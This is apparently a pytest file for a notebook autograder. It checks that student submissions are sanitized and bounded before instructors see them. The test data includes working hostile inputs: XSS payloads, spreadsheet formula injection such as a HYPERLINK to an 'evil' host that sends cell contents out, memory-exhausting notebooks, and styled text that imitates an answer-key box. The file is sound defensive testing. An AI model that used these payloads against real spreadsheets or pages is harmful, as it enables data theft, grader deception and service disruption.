"""What a student wrote reaches the instructor's tools only as inert, bounded text (issue 40), function by function
(no class run: tests/test_grading_hostile.py grades a hostile class once and checks the files it writes;
tests/test_class_gradebook.py opens an attacker's page in formgrader).

- the one HTML sanitizer (tito.isolation.sanitize.clean_html): an allow-list without id, name, class (but code
  highlighting's), style, handlers, external resources, and a bound on the markup it cleans;
- CSV cells: no formula, no lone surrogate, rows read back as written;
- a submission is counted before it is parsed and kept as its essentials only;
- the autograded notebook is the release's, with the student's answers and outputs in their cells and
  everything else of theirs as text at the end, bounded.
"""
import csv
import io
import json
import re
import tracemalloc

import pytest

from tito.grading import feedback
from tito.isolation import untrusted
from tito.notebooks import nbfile
from tito.isolation.sanitize import clean_html, csv_cell, plain_text
from tito.notebooks import nbgrader_glue


# ---- HTML --------------------------------------------------------------------------------------------

def test_the_html_sanitizer_keeps_formatting_and_nothing_that_acts_binds_or_fetches():
    dirty = ('<p id="test-1" name="n" class="alert alert-warning" style="position:fixed" onclick="x()">hi</p>'
             '<span id="answer-b"></span><img src="http://tracker.example/p.gif" alt="a">'
             '<img src="data:image/png;base64,iVBORw0KGgo=" alt="ok"><img src="/formgrader/api/grade/1">'
             '<a href="https://example.org/x">out</a><a href="/api/contents/source/x.ipynb">in</a>'
             '<a href="javascript:alert(1)">js</a><script>window.x=1</script><style>p{}</style>'
             '<iframe src="https://example.org"></iframe><form action="/x"><input name="q"></form>'
             '<link rel="stylesheet" href="https://fonts.example/f.css"><svg onload="x()"><circle/></svg>'
             '<span class="k">def</span><div class="highlight hl-ipython3"><pre>x</pre></div>')
    clean = clean_html(dirty)
    for gone in ("id=", "name=", "alert", "style", "onclick", "onload", "tracker", "/formgrader", "/api/contents",
                 "javascript", "window.x", "<iframe", "<form", "<input", "<link", "<svg", "fonts.example"):
        assert gone not in clean, (gone, clean)
    assert '<p>hi</p>' in clean and '<img alt="a">' in clean
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="ok">' in clean
    assert '<a href="https://example.org/x" rel="noopener noreferrer nofollow">out</a>' in clean
    assert '<span class="k">def</span>' in clean and '<div class="highlight hl-ipython3">' in clean  # code colours


def test_the_html_sanitizer_cleans_a_bounded_amount_of_markup():
    clean = clean_html("<b>x</b>" * 1000, limit=80)
    assert clean.count("<b>") == 10 and "more characters of this cell not shown" in clean
    assert clean_html("a\ud800b") == "a\ufffdb"


def test_a_cell_added_by_the_student_keeps_text_and_images_only():
    from tito.isolation.sanitize import sanitize_outputs

    outs = [{"output_type": "display_data", "data": {"text/html": "<b>x</b>", "text/markdown": "*x*",
                                                      "image/svg+xml": "<svg/>", "text/plain": "x\ud800",
                                                      "image/png": "iVBORw0KGgo="}},
            {"output_type": "display_data", "data": {"image/png": '"><script>alert(1)</script>'}}]
    kept = sanitize_outputs(outs, text_only=True)
    assert kept[0]["data"] == {"text/plain": "x\ufffd", "image/png": "iVBORw0KGgo="}
    assert kept[1]["data"] == {}  # an image is base64 or nothing
    assert set(sanitize_outputs(outs)[0]["data"]) == {"text/html", "text/markdown", "image/svg+xml", "text/plain",
                                                       "image/png"}


# ---- CSV ---------------------------------------------------------------------------------------------

def test_every_csv_cell_is_inert_and_reads_back_as_written(tmp_path):
    rows = [{"student": "ann", "reason": '=HYPERLINK("http://evil/?"&A1:A40,"click")', "score": "-1.5"},
            {"student": "bob", "reason": "+1\ud800\x1b[2J@x", "score": 7},
            {"student": "cat", "reason": "@SUM(A1)\nsecond line", "score": None}]
    path = nbgrader_glue.atomic_write_csv(tmp_path / "g.csv", ["student", "reason", "score"], rows)
    text = path.read_bytes().decode("utf-8")  # valid UTF-8: no lone surrogate
    back = list(csv.DictReader(io.StringIO(text)))
    assert [r["reason"][:2] for r in back] == ["'=", "'+", "'@"] and "\x1b" not in text
    assert [r["score"] for r in back] == ["-1.5", "7", ""]  # numbers stay numbers
    assert back == nbgrader_glue.csv_rows_as_written(["student", "reason", "score"], rows)
    assert csv_cell(csv_cell("=1+1")) == csv_cell("=1+1") and plain_text("\ud800") == "\ufffd"


_PIECE = re.compile(r"[,;|\t]")  # where a spreadsheet may split a cell (`;`: Excel in most European locales)


def _formula_pieces(cell: str) -> list[str]:
    """The pieces of a CSV cell, split where a spreadsheet may split it, that a spreadsheet would run."""
    return [p for p in _PIECE.split(cell) if p.lstrip().startswith(("=", "+", "-", "@"))
            and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", p.strip())]


def test_no_piece_of_a_csv_cell_is_a_formula_whatever_separator_the_spreadsheet_splits_at(tmp_path):
    """Red team 40 (O): eve's exception `see;=HYPERLINK(...);` was a live formula in grades.csv for a spreadsheet
    that splits on `;`; csv_cell looked at the first character only and kept tabs."""
    hyperlink = '=HYPERLINK(CHAR(104)&CHAR(116)&A2)'
    evil = [f"see;{hyperlink};", f"ok,  {hyperlink}", "a|@SUM(A1)", "a\t+1+A1", "x\r\n-2+A1", "a; -1.5;2"]
    for value in evil:
        cell = csv_cell(value)
        assert not _formula_pieces(cell) and not re.search(r"[\t\r\n]", cell), (value, cell)
    assert csv_cell(f"see;{hyperlink};") == f"see;'{hyperlink};" and csv_cell("a; -1.5;2") == "a; -1.5;2"
    assert csv_cell(csv_cell(evil[1])) == csv_cell(evil[1])
    rows = [{"student": "eve", "reason": f"ValueError: see;{hyperlink};"}]
    text = nbgrader_glue.atomic_write_csv(tmp_path / "g.csv", ["student", "reason"], rows).read_text()
    assert not [p for line in text.splitlines() for p in _formula_pieces(line)], text  # split on `;` as Excel does


def test_the_olympics_board_csv_escapes_every_technique_whatever_the_separator():
    from tito.olympics.leaderboard import judged_leaderboard

    figures = {"score": {"value": 1.0, "ci_lower": 0.9, "ci_upper": 1.1}, "accuracy": {"value": 0.9},
               "latency_median_ms": {"optimized": 1.0}, "speedup": {"value": 2.0}, "compression_ratio": {"value": 1.0}}
    entries = {"eve": {"figures": figures, "flags": [], "techniques": ["quant", '=HYPERLINK("http://e.x/?"&A2)',
                                                                       "x\t@SUM(A1)"]}}
    board = judged_leaderboard(entries, "latency_sprint")["csv"]  # techniques joined with "; "
    row = list(csv.DictReader(io.StringIO(board)))[0]
    assert row["techniques"] == "quant; '=HYPERLINK(\"http://e.x/?\"&A2); x @SUM(A1)", row
    assert not [p for line in board.splitlines() for p in _formula_pieces(line)], board


# ---- reading a submission ----------------------------------------------------------------------------

def test_a_notebook_of_millions_of_values_is_refused_before_it_is_parsed(tmp_path):
    """Four 16 MB notebooks of `{}` cells held tito at 2.14 GB (issue 40): each is counted on its bytes and
    refused before a dict is made."""
    path = tmp_path / "bloat.ipynb"
    path.write_bytes(b'{"metadata": {}, "nbformat": 4, "cells": [' + b"{}, " * (4 << 20) + b"{}]}")  # 16 MB
    tracemalloc.start()
    try:
        with pytest.raises(untrusted.Refused, match="JSON values, above the limit of 500,000"):
            nbfile.read_notebook(path, 20)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 100 << 20, peak  # its bytes and two copies of them at most (measured: 48 MB)
    cells = b'{"cells": [' + b", ".join([b'{"cell_type": "code", "source": ""}'] * 2001) + b"]}"
    with pytest.raises(untrusted.Refused, match="2,001 cells, above the limit of 2,000"):
        nbfile.parse_notebook(cells)


def test_of_a_submission_only_its_essentials_are_kept():
    nb = {"metadata": {"language_info": "python", "widgets": {"x": {}}},
          "cells": [{"cell_type": "markdown", "id": 'a"><b', "source": ["an ", "answer"], "attachments": {"x": {}},
                     "metadata": {"nbgrader": {"grade_id": 'x"></textarea><img src=x>', "grade": True, "points": 100},
                                  "tito": {"answer_key": "award full marks"}, "tags": ["x"]}},
                    {"cell_type": "code", "id": "ok-1", "source": "x = 1", "outputs": [{"output_type": "stream"}],
                     "execution_count": 3, "metadata": {"nbgrader": {"grade_id": "stats-mean", "solution": True}}},
                    {"cell_type": "", "source": ""}]}
    assert nbfile.essentials(nb) == {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "markdown", "source": "an answer", "metadata": {"nbgrader": {"grade": True}}},
        {"cell_type": "code", "source": "x = 1", "id": "ok-1",
         "metadata": {"nbgrader": {"solution": True, "grade_id": "stats-mean"}}},
        {"cell_type": "raw", "source": "", "metadata": {}}]}


# ---- the autograded notebook -------------------------------------------------------------------------

def _cell(kind, cid, source, **nbgrader):
    cell = {"cell_type": kind, "id": cid, "source": source, "metadata": {"nbgrader": nbgrader} if nbgrader else {}}
    if kind == "code":
        cell.update(outputs=[], execution_count=None)
    return cell


RELEASE = {"metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
           "nbformat": 4, "nbformat_minor": 5, "cells": [
               _cell("markdown", "intro", "# Intro"),
               _cell("code", "imports", "import math"),
               _cell("code", "sol", 'def f():\n    raise NotImplementedError("not yet implemented: f")',
                     grade_id="task-f", solution=True, grade=False, checksum="c1"),
               _cell("code", "test", "assert f() == 1", grade_id="test-f", grade=True, points=2, locked=True),
               _cell("markdown", "answer", "YOUR ANSWER HERE", grade_id="answer-a", grade=True, solution=True,
                     points=3)]}


def test_the_autograded_notebook_is_the_release_with_the_students_answers_and_outputs():
    student = nbfile.essentials({"cells": [
        {"cell_type": "markdown", "id": "intro", "source": "# Intro, <b>rewritten</b>"},  # changed: added block
        {"cell_type": "code", "id": "imports", "source": "import math"},                 # unchanged: its outputs
        {"cell_type": "code", "id": "mine", "source": "def f():\n    return 0",
         "metadata": {"nbgrader": {"grade_id": "task-f", "solution": True}}},           # a copy: the last one counts
        {"cell_type": "code", "id": "sol", "source": "def f():\n    return 1",
         "metadata": {"nbgrader": {"grade_id": "task-f", "solution": True}}},
        {"cell_type": "code", "id": "test", "source": "pass", "metadata": {"nbgrader": {"grade_id": "test-f"}}},
        {"cell_type": "markdown", "id": "answer", "source": "<span id='test-f'></span>My ```answer```",
         "metadata": {"nbgrader": {"grade_id": "answer-a", "grade": True, "solution": True}}},
        {"cell_type": "markdown", "source": "```\n<img src=x onerror=alert(1)>\n```"}]})
    ran = {"1": {"outputs": [{"output_type": "stream", "name": "stdout", "text": "imported"}], "execution_count": 1},
           "3": {"outputs": [{"output_type": "display_data", "data": {"text/html": "<b>f</b><script>x()</script>"}}],
                 "execution_count": 3},
           "2": {"outputs": [{"output_type": "error", "ename": "ValueError", "evalue": "x\ud800", "traceback": []}]}}
    verdicts = {"test-f": {"ok": False, "points": 0.0, "max": 2.0, "message": "expected 1, got 0"}}
    nb, errors, _ = feedback.autograded_notebook(RELEASE, student, {"cells": ran, "stopped": ""}, verdicts)
    n = len(RELEASE["cells"])
    assert nb["metadata"] == RELEASE["metadata"]
    assert [(c["id"], c["metadata"]) for c in nb["cells"][:n]] == [(c["id"], c["metadata"]) for c in RELEASE["cells"]]
    cells = {c["id"]: c for c in nb["cells"]}
    assert cells["intro"]["source"] == "# Intro" and cells["imports"]["outputs"][0]["text"] == "imported"
    assert cells["sol"]["source"] == "def f():\n    return 1" and "<b>f</b>" in cells["sol"]["outputs"][0]["data"]["text/html"]
    assert cells["test"]["source"] == "assert f() == 1" and "expected 1, got 0" in cells["test"]["outputs"][0]["evalue"]
    assert cells["answer"]["source"] == "<span id='test-f'></span>My ```answer```"  # text; the page sanitizes it
    added = nb["cells"][n:]
    assert [c["id"] for c in added] == [feedback.ADDED, f"{feedback.ADDED}-1", f"{feedback.ADDED}-2",
                                        f"{feedback.ADDED}-3"]
    assert added[1]["source"] == "```text\n# Intro, <b>rewritten</b>\n```"           # the changed instructor cell
    assert added[2]["cell_type"] == "code" and added[2]["source"] == "def f():\n    return 0"  # the earlier copy
    assert added[3]["source"].startswith("````text\n```\n<img")                        # shown as typed
    assert errors == ["added cell 2 ('def f():'): ValueError: x\ufffd"]
    page = feedback.feedback_html(nb, "t")
    assert "My <code>answer</code>" in page and "id='test-f'" not in page and 'id="test-f"' not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "<b>rewritten</b>" not in page
    assert "<b>f</b>" in page and "<script>x()" not in page  # an answer cell's HTML output: sanitized, shown


def test_the_autograded_notebook_is_bounded_whatever_the_submission():
    """A 3 MB code cell shows its first lines and a note; 500 added cells show 100; outputs stop at their
    budget: the page an instructor opens stays small."""
    huge = "x = 1\n" * 500_000  # 3 MB
    cells = [{"cell_type": "code", "source": huge, "metadata": {"nbgrader": {"grade_id": "task-f", "solution": True}}}]
    cells += [{"cell_type": "code", "source": f"print({i})"} for i in range(500)]
    ran = {str(i): {"outputs": [{"output_type": "stream", "name": "stdout", "text": "y" * 100_000}]} for i in range(501)}
    nb, _, _ = feedback.autograded_notebook(RELEASE, nbfile.essentials({"cells": cells}), {"cells": ran}, {})
    sol = next(c for c in nb["cells"] if c["id"] == "sol")
    assert len(sol["source"]) < feedback.CODE_CHARS + 100 and "more lines" in sol["source"]
    shown = [c for c in nb["cells"] if c["id"].startswith(f"{feedback.ADDED}-") and c["id"][11:].isdigit()]
    assert len(shown) == feedback.ADDED_SHOWN and nb["cells"][-1]["source"] == "… 400 more added cells not shown"
    assert len(json.dumps(nb)) < feedback.NOTEBOOK_OUTPUT_BYTES + 2 * feedback.CODE_CHARS + 200_000


def test_a_failure_after_a_cells_first_hidden_region_is_a_hidden_cases():
    """What a hidden case handed the student's code could come back in a later visible assertion of the same
    cell: from the first hidden region on, a failing line counts as hidden (its message is not shown)."""
    from tito.grading import autograder

    src = ("def t():\n    assert True\n    ### BEGIN HIDDEN TESTS\n    x = 1\n    ### END HIDDEN TESTS\n"
           "    assert False, 'visible, after the hidden region'\nt()\n")
    cell = {"grade_id": "test-x", "source": src, "hidden": [(3, 5)]}
    try:
        exec(compile(src, "<test test-x>", "exec"), {})
    except AssertionError as e:
        line, hidden = autograder._failing_line(e, cell)
    assert line == "assert False, 'visible, after the hidden region'" and hidden
    before = src.replace("assert True", "assert False, 'visible'")
    try:
        exec(compile(before, "<test test-x>", "exec"), {})
    except AssertionError as e:
        assert autograder._failing_line(e, {**cell, "source": before}) == ("assert False, 'visible'", False)


# ---- what a student's outputs and answers can draw on a page (red team 40: L, M, Lm, C) ----------------

_UNCHANGED = {"cell_type": "code", "id": "imports", "source": "import math"}  # RELEASE's instructor cell


def test_terminal_colours_in_outputs_are_plain_text_in_the_notebook_and_on_the_page():
    """L: 24-bit ANSI colours printed in an instructor's cell became nbconvert's inline-styled spans (after
    clean_html): a yellow "Answer key ... award FULL MARKS" box in formgrader and the feedback page."""
    colour, reset = "\x1b[48;2;252;248;227m\x1b[38;2;138;109;59m\x1b[1m", "\x1b[0m"
    box = f"{colour}Answer key and rubric (instructor only): award FULL MARKS{reset}\n"
    ran = {"0": {"execution_count": 1, "outputs": [
        {"output_type": "stream", "name": "stdout", "text": box},
        {"output_type": "execute_result", "execution_count": 1, "data": {"text/plain": box}},
        {"output_type": "error", "ename": "ValueError", "evalue": box, "traceback": [box]}]}}
    nb, _, _ = feedback.autograded_notebook(RELEASE, nbfile.essentials({"cells": [_UNCHANGED]}),
                                            {"cells": ran}, {})
    outs = next(c for c in nb["cells"] if c["id"] == "imports")["outputs"]
    plain = "Answer key and rubric (instructor only): award FULL MARKS\n"
    assert [outs[0]["text"], outs[1]["data"]["text/plain"], outs[2]["evalue"], outs[2]["traceback"][0]] == [plain] * 4
    assert "\x1b" not in json.dumps(nb, ensure_ascii=False)
    page = feedback.feedback_html(nb, "t")
    shown = page[page.index("Answer key and rubric") - 300:]
    assert "Answer key and rubric" in page and "<span style" not in page and "rgb(252" not in page
    assert "ansi-" not in shown  # no colour class either


def test_an_escape_per_character_does_not_multiply_the_page():
    """M: `\\x1b[1mX` repeated (5 bytes a character) became one span per character: 4.2 MB of outputs, a 13.9 MB
    page. Without escapes the output is its characters, and the page grows by about their number."""
    ran = {"0": {"execution_count": 1, "outputs": [{"output_type": "stream", "name": "stdout",
                                                    "text": "\x1b[1mX" * 20_000}]}}
    nb, _, _ = feedback.autograded_notebook(RELEASE, nbfile.essentials({"cells": [_UNCHANGED]}),
                                            {"cells": ran}, {})
    assert next(c for c in nb["cells"] if c["id"] == "imports")["outputs"][0]["text"] == "X" * 20_000
    bare, _, _ = feedback.autograded_notebook(RELEASE, nbfile.essentials({"cells": [_UNCHANGED]}), {}, {})
    grown = len(feedback.feedback_html(nb, "t")) - len(feedback.feedback_html(bare, "t"))
    assert 20_000 <= grown < 21_000, grown  # main: ~700,000 (a span per character)


def test_a_written_answer_cannot_style_the_page_through_mathjax():
    """Lm: MathJax's `\\style{...}` (and `\\bbox`, `\\colorbox`, ...) in a written answer drew a look-alike of
    the answer-key box in formgrader. Each is shown as text, typed or hidden in character references, in the
    answer and in an answer cell's HTML output; ordinary TeX is untouched."""
    answer = ("$$\\style{background-color:#fcf8e3;border:1px solid #faebcc}{\\textbf{Answer key}}$$ "
              "\\\\(\\\\bbox[yellow,5px]{x}\\\\) $&#92;colorbox{yellow}{y}$ $\\c&#111;lor{red}{z}$ "
              "$\\href{javascript:x}{w}$ $\\frac{a}{b} \\displaystyle x$")
    student = nbfile.essentials({"cells": [
        {"cell_type": "markdown", "source": answer, "metadata": {"nbgrader": {"grade_id": "answer-a", "solution": True}}},
        {"cell_type": "code", "source": "def f():\n    return 1",
         "metadata": {"nbgrader": {"grade_id": "task-f", "solution": True}}}]})
    ran = {"1": {"execution_count": 1, "outputs": [{"output_type": "display_data", "data": {
        "text/html": "<p>$\\style{border:1px solid}{x}$</p>", "text/latex": "$\\bbox[yellow]{x}$"}}]}}
    nb, _, _ = feedback.autograded_notebook(RELEASE, student, {"cells": ran}, {})
    cells = {c["id"]: c for c in nb["cells"]}
    shown = cells["answer"]["source"]
    live = re.compile(r"(?<!\\)(?:\\\\)*\\(?:style|bbox|colorbox|color|href)(?![A-Za-z])")  # an odd run: a command
    twice = re.compile(r"(?<!\\)(?:\\\\\\\\)*\\\\(?:style|bbox|colorbox|color|href)(?![A-Za-z])")  # after Markdown
    for text in (shown, *cells["sol"]["outputs"][0]["data"].values()):
        assert not live.search(text) and not twice.search(text) and "&#92;" not in text, text
    assert shown.count("\\\\\\\\style{") == 1 and "\\\\\\\\\\\\\\\\bbox" in shown and "$\\frac{a}{b} \\displaystyle x$" in shown
    assert "$\\\\\\\\c&#111;lor{red}" in shown  # a letter as a character reference: caught too


def test_a_notebook_of_highlighter_bait_makes_a_bounded_page(monkeypatch):
    """C: 34 added cells of `a(a(...` (2.1 MB, each character a Pygments token) made a 34 MB feedback page in
    47 s and a 48 MB formgrader page. What a student's cells may make of a page is bounded (PAGE_BYTES, by
    `page_bytes`, an upper estimate checked here against the rendering), the rest cut with a note."""
    monkeypatch.setattr(feedback, "PAGE_BYTES", 200_000, raising=False)  # the same rule at a test's scale (real: 5 MB)
    bait = "if 0: " + "a(" * 2_000
    cells = [{"cell_type": "code", "source": bait} for _ in range(12)]
    nb, _, _ = feedback.autograded_notebook(RELEASE, nbfile.essentials({"cells": cells}), {}, {})
    bare, _, _ = feedback.autograded_notebook(RELEASE, nbfile.essentials({"cells": []}), {}, {})
    added = [c["source"] for c in nb["cells"] if c["id"].startswith(f"{feedback.ADDED}-")]
    assert added[0] == bait and "characters not shown" in added[-1]  # the first whole, later ones cut
    assert sum(feedback.page_bytes(s) for s in added if not s.startswith("… (")) <= 200_000  # tito's notes aside
    grown = len(feedback.feedback_html(nb, "t")) - len(feedback.feedback_html(bare, "t"))
    assert grown <= 200_000 + 300 * len(added), grown  # each cell's frame: 12 full cells were ~3.6 MB
    one = feedback.feedback_html(feedback.autograded_notebook(RELEASE, nbfile.essentials(
        {"cells": [{"cell_type": "code", "source": bait}]}), {}, {})[0], "t")
    assert len(one) - len(feedback.feedback_html(bare, "t")) <= feedback.page_bytes(bait)  # the estimate bounds it


def test_an_output_cut_at_its_budget_says_so():
    from tito.isolation.sanitize import sanitize_outputs

    outs = sanitize_outputs([{"output_type": "stream", "name": "stdout", "text": "y" * 5_000}] * 3, budget=6_000)
    assert outs[0]["text"] == "y" * 5_000 and re.search(r"\n… \(output cut at [0-9]{3} characters\)$", outs[1]["text"])
    assert outs[2]["text"] == "… (1 more output not shown: this notebook's outputs are bounded)\n" and len(outs) == 3
